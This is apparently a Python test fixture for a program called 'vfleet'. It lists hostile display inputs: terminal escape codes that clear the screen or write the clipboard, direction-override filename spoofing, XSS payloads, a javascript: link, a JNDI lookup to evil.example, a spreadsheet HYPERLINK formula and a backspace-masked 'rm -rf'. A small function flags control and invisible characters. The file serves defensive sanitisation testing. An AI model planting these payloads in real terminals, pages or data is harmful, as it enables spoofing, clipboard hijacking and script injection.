"""Words from outside that attack a place of display: each test that shows foreign text goes through all of them."""

HOSTILE_WORDS = {
    "clear screen": "\x1b[2J\x1b[H",
    "set title": "\x1b]0;owned\x07",
    "write clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "C1 escape": "\x9b31mred\x9b0m",
    "NUL": "name\x00.flac",
    "carriage return": "harmless\rvfleet: all is well",
    "new line": "harmless\nvfleet: all is well",
    "backspaces": "rm -rf\b\b\b\b\b\bls    ",
    "line separator": "one\u2028two\u2029three",
    "direction override": "gpj.\u202eexe.txt\u202c",
    "direction isolate": "\u2066x\u2069",
    "lone surrogate": "tail\udcff\ud800",
    "byte order mark": "\ufeffvideo",
    "tag characters": "a\U000e0041\U000e0042b",
    "script": "<script>alert(1)</script>",
    "event handler": '" onmouseover="alert(1)" x="',
    "single quote": "' onload='alert(1)",
    "remote image": "![x](https://evil.example/x.png)",
    "link": "[click](javascript:alert(1))",
    "bare address": "https://evil.example and www.evil.example and evil.example/x",
    "table cell": "a | b\n|---|---|\n| c",
    "code fence": "```\n# heading\n```",
    "emphasis": "**bold** _it_ ~~gone~~",
    "html entity": "&lt;script&gt; &#60;b&#62;",
    "rich markup": "[bold red]alarm[/] [link=https://evil.example]x[/link]",
    "template": "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s %(x)s",
    "spreadsheet": '=HYPERLINK("https://evil.example")',
    "option": "--dry-run",
    "long": "x" * 100_000,
}
"""What it attacks -> the word."""

CONTROL = {chr(code) for code in [*range(32), 127, *range(128, 160)]}
INVISIBLE = set("\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff") | {
    chr(code) for code in [*range(0xD800, 0xE000), *range(0xE0000, 0xE0080)]
}


def unsafe_characters(text: str, *, allowed: str = "\n") -> set[str]:
    """The characters of a text that change how a terminal shows it, except those that are allowed."""
    return (set(text) & (CONTROL | INVISIBLE)) - set(allowed)
